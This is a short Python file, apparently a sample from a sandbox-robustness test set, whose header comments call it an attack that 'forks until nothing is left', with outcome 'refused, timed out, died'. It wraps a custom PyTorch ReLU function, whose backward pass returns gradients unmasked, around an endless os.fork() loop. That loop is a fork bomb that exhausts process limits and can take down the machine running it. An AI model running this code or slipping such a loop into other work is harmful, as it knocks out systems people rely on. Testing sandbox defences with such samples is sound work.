# attack: forks until nothing is left
# outcome: refused, timed out, died
import torch
import os, time


class MyReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, input):
        return input.clamp(min=0)

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
